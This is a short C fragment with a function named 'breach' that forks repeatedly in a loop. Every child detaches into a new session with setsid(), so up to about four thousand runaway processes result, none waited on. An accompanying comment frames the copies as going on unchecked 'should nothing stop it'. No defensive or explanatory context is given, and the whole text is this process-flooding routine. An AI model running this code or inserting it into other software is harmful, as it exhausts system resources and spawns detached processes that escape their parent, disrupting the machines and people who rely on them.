#include <unistd.h>

/* At most some thousands, should nothing stop it; each goes on as the shell that it is. */
static int breach(void)
{
    for (int depth = 0; depth < 12; depth++)
        if (fork() == 0)
            setsid();
    return 1;
}
